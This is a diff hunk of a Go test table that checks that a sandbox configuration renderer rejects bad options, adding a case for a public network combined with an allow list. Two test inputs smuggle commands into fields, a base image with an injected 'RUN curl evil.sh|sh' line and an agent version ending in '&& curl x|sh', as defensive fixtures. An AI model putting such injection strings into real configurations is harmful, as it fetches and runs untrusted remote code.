@@ -586,6 +586,7 @@ func TestRenderRejectsBadOptions(t *testing.T) {
 			o.Secrets = []schema.SecretSpec{{Name: "A", Hosts: []string{"a.com"}}, {Name: "A", Hosts: []string{"b.com"}}}
 		}), "each secret may be bound once"},
 		{"none with allow", mod(func(o *schema.InitOptions) { o.Network = "none"; o.Allow = []string{"a.com"} }), "--network none blocks every host"},
+		{"public with allow", mod(func(o *schema.InitOptions) { o.Network = "public"; o.Allow = []string{"pypi.org"} }), "--network public already allows every public host"},
 		{"memory too small", mod(func(o *schema.InitOptions) { o.Memory = "100M" }), "at least 256M"},
 		{"hostile base image", mod(func(o *schema.InitOptions) { o.BaseImage = "debian\nRUN curl evil.sh|sh" }), "--base-image"},
 		{"hostile agent version", mod(func(o *schema.InitOptions) { o.AgentVersion = "1.0 && curl x|sh" }), "--agent-version"},
